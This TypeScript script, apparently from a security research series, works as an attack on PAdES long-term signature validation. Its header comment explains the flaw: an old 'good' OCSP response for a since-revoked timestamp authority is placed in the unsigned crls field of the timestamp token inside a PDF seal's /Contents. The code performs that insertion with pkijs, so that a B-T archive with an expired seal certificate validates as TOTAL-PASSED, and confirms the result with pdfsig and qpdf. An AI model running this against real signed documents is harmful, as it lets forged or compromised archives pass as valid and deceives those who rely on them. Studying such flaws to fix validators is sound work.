// L1b: L1 without any revision. The revocation pool of long-term validation also takes the signature timestamp
// token's own SignedData.crls (RFC 5940 OtherRevocationInfoFormat id-ri-ocsp-response). That field is signed by
// nobody: the seal signs only its signed attributes, the TSA only the TSTInfo and its signed attributes, and the
// token sits in the seal's /Contents, which no byte range covers. An old "good" OCSP response for the TSA put
// there in place (zero padding leaves room) turns the broker's B-T archive, whose seal certificate has expired and
// whose TSA was revoked since (keyCompromise), into TOTAL-PASSED: one revision, "PAdES B-T", no DSS, the file's
// byte ranges and every signed byte as the broker wrote them; pdfsig says the same as for the original.
//   npx tsx scripts/attack36/tsa-data-in-unsigned-cms.ts [honest]
// honest: samples/expired/archive.pdf as it is: INDETERMINATE / OUT_OF_BOUNDS_NOT_REVOKED.
import * as asn1js from "asn1js";
import * as pkijs from "pkijs";
import { dss, dssItems, sample, save, sealGap, show, tool, verify, withSealContents, work } from "./lib.js";

const honest = process.argv[2] === "honest";
const dir = work("l1b");
const base = sample("expired/archive.pdf");
let out = base;
if (!honest) {
  // The 2025-12-09 "good" answer about the TSA (any answer of the TSA's responder between the timestamp and the
  // revocation does: it answers anyone, and every archive augmented that week carries one).
  const good = dssItems(sample("expired/archive-lta.pdf")).ocsps;
  const { der } = sealGap(base);
  const ci = pkijs.ContentInfo.fromBER(der);
  const sd = new pkijs.SignedData({ schema: ci.content });
  const attr = sd.signerInfos[0]!.unsignedAttrs!.attributes.find((a) => a.type === "1.2.840.113549.1.9.16.2.14")!;
  const tci = new pkijs.ContentInfo({ schema: attr.values[0] });
  const tsd = new pkijs.SignedData({ schema: tci.content });
  tsd.crls = [
    ...(tsd.crls ?? []),
    ...good.map((o) => new pkijs.OtherRevocationInfoFormat({ otherRevInfoFormat: "1.3.6.1.5.5.7.16.2", otherRevInfo: asn1js.fromBER(o).result })),
  ];
  attr.values[0] = new pkijs.ContentInfo({ contentType: pkijs.ContentInfo.SIGNED_DATA, content: tsd.toSchema(true) }).toSchema();
  const cms = new pkijs.ContentInfo({ contentType: pkijs.ContentInfo.SIGNED_DATA, content: sd.toSchema(true) });
  out = withSealContents(base, new Uint8Array(cms.toSchema().toBER(false)));
}
const file = save(dir, "archive.pdf", out);
const diff = [...base].reduce((n, b, i) => n + (b !== out[i] ? 1 : 0), 0);
console.log(`wrote ${file}: ${out.length} bytes (original ${base.length}), ${diff} bytes differ, all inside the seal's /Contents`);
show(honest ? "honest: the broker's B-T archive" : "attack: old TSA answer inside the timestamp token", verify(file));
dss(file);
console.log("== pdfsig:");
console.log(
  tool("pdfsig", [file])
    .split("\n")
    .filter((l) => /Signature #|Signature Validation|Certificate Validation|Total document/.test(l))
    .join("\n"),
);
console.log("== qpdf --check:", tool("qpdf", ["--check", file]).split("\n").slice(-1)[0]);
